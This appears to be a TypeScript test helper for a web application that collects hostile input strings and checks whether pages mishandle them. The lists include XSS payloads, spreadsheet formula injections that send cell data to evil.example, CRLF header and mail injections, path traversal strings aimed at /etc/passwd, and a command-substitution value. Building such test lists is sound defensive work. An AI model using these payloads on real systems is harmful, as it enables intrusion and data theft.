import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { Browser } from './browser.ts'
import { brokenRules } from './page-rules.ts'
import type { Reply } from './site-client.ts'
import type { World } from './world.ts'

const read = createRequire(import.meta.url)
const at = (...codes: number[]): string => String.fromCodePoint(...codes)

/** What is set by any of our own payloads that runs in a page. */
export const PWNED = 'pwned_by_a_name'

const RUNS = `window.${PWNED}=1`

/** The big list of naughty strings (MIT), as it is. */
const KNOWN = JSON.parse(readFileSync(read.resolve('big-list-of-naughty-strings'), 'utf8')) as string[]

/** Each says so when it is run. */
export const SCRIPTS = [
  `<script>${RUNS}</script>`,
  `</title><script>${RUNS}</script>`,
  `</textarea></select><script>${RUNS}</script>`,
  `"><img src=x onerror=${RUNS}>`,
  `'><svg/onload=${RUNS}>`,
  `" autofocus onfocus=${RUNS} x="`,
  `' onmouseover=${RUNS} style=position:fixed;inset:0 x='`,
  `<details open ontoggle=${RUNS}>`,
  `<iframe srcdoc="<script>parent.${PWNED}=1</script>"></iframe>`,
  `<form action=https://evil.example><input name=_csrf autofocus>`,
  `<base href=https://evil.example/>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<math><mi//xlink:href="data:x,<script>${RUNS}</script>">`,
  `<template shadowrootmode=open><script>${RUNS}</script></template>`,
  `javascript:${RUNS}`,
  `java\tscript:${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `-->]]><script>${RUNS}</script><!--`,
  `\`-${RUNS}-\``,
  `\${${RUNS}}`,
  `{{constructor.constructor('${RUNS}')()}}`,
  `<%= 7*7 %><%- ${RUNS} %>`,
  `${at(0xff1c)}script${at(0xff1e)}${RUNS}${at(0xff1c)}/script${at(0xff1e)}`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `+ADw-script+AD4-${RUNS}+ADw-/script+AD4-`,
]

/** What a spreadsheet would run, and what only looks as if our guard were in front of it. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '|calc',
  '%0A=1+1',
  "'=1+1",
  "''=1+1",
  "'''@SUM(1)",
  "'plain",
  `${at(0xff1d)}1+1`,
  `${at(0xff0b)}1`,
  `${at(0xff0d)}1`,
  `${at(0xff20)}SUM(1)`,
  ';=1+1',
  ',=1+1',
  '"=1+1"',
  '""=1+1',
  'x";=1+1;"',
  '_x003D_1+1',
  '_x005F_x003D_',
  'sep=;',
  '1E5',
  '1.23E+11',
  '0123',
  '00:00',
  '1/2',
  'TRUE',
  '#REF!',
  'mailto:ada@customer.example',
  '(clear)',
  '(CLEAR)',
]

/** What could end a line of a header or of a mail, or a name within one. */
const HEADER_LINES = [
  'x\r\nSet-Cookie: staff=evil',
  'x\nBcc: evil@evil.example',
  'x\rLocation: https://evil.example',
  'x\r\n\r\n<script>alert(1)</script>',
  'x%0d%0aSet-Cookie:%20staff=evil',
  `x${at(0x560a)}${at(0x560d)}Set-Cookie: staff=evil`,
  `x${at(0x2028)}y${at(0x2029)}z${at(0x85)}`,
  'Ada" <evil@evil.example>, "Bea',
  '<evil@evil.example>',
  'a@b.example, evil@evil.example',
  'a@b.example\nevil@evil.example',
  '=?utf-8?q?=0ABcc:_evil=40evil.example?=',
  '.\r\nMAIL FROM:<evil@evil.example>',
  `"; filename="evil.html`,
]

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  '/etc/passwd',
  'C:\\Windows\\System32\\config',
  '\\\\evil.example\\share',
  'file:///etc/passwd',
  '//evil.example/x',
  '/\\evil.example',
  'x/../../y',
  '.',
  '..',
  '~root',
  '$(id)`id`;id|id',
  'CON',
  'nul.txt',
  'name.',
  'name ',
  'a'.repeat(300),
]

/** Signs that look alike, change direction, take no room, stand alone, or can be written in more than one way. */
const LOOKALIKES = [
  `${at(0x430)}d${at(0x430)}@customer.example`,
  `ada@cust${at(0x3bf)}mer.example`,
  `${at(0x202e)}gpj.exe${at(0x202c)}`,
  `${at(0x2066)}x${at(0x2069)}y`,
  `a${at(0x200b)}b${at(0x200c)}c${at(0x200d)}d${at(0x2060)}e${at(0xfeff)}f`,
  at(0x200b),
  at(0x2800),
  at(0x3164),
  `${at(0x115f)}${at(0x1160)}`,
  at(0xad),
  at(0xfe0f),
  `e${at(0x301)} ${at(0xe9)}`,
  `${at(0x1e9b)}${at(0x323)}`,
  `${at(0x212b)} ${at(0xc5)}`,
  `${at(0xfb01)} ${at(0xfdfa)}`,
  `${at(0x130)}I${at(0x131)}i${at(0xdf)}${at(0x1e9e)}`,
  `${at(0x1f468)}${at(0x200d)}${at(0x1f469)}${at(0x200d)}${at(0x1f467)}`,
  at(0x1f1ec, 0x1f1e7),
  `a${at(0x300).repeat(150)}`,
  at(0xe0041),
  `${at(0xfffd)}x`,
  `x${at(0xfffe)}y`,
  `x${at(0xffff)}y`,
  `x${at(0xfdd0)}y`,
  `x${at(0x1ffff)}y`,
  `x${at(0x10ffff)}y`,
  `x${at(0xe000)}y`,
  'x\ud83dy',
  'x\udc00y',
  '\ud83d',
  `${'x'.repeat(199)}${at(0x1f600)}${'x'.repeat(10)}`,
  `${'x'.repeat(499)}${at(0x1f600)}x`,
  'x\0y',
  '\0',
  'x\x01\x02\x07\x08\x1b[31my\x7f',
  'x\x0b\x0c\x1c\x1d\x1e\x1fy',
  'x\x80\x9b\x9fy',
  at(0x2029),
  'ß'.repeat(100),
]

/** Every string that somebody may type to break something, once. */
export const NAUGHTY = [...new Set([...KNOWN, ...SCRIPTS, ...FORMULAS, ...HEADER_LINES, ...PATHS, ...LOOKALIKES])]

/** Rules that names like these break by what they say, and not by what a page does with them. */
const SAID_BY_NAMES = /^the page shows the word|^links called|is not how one counts$|says only/

/** What a page does with such names that no page may do. */
export function harmIn({ text, url, status, headers }: Reply): string[] {
  if (!headers.get('content-type')?.startsWith('text/html') || headers.has('location')) return []
  return brokenRules(text, { url: url.href, status, headers }).filter(rule => !SAID_BY_NAMES.test(rule))
}

/** A browser of a new administrator, for pages full of such names. */
export async function amongNaughtyNames(world: World): Promise<Browser> {
  const { email, password } = await world.aStaff('Nora Naughty', 'admin')
  const browser = new Browser(world.base, { forgiven: SAID_BY_NAMES })
  await browser.open('/staff/sign-in')
  browser.fill('Email address', email)
  browser.fill('Password', password)
  await browser.press('Sign in')
  return browser
}
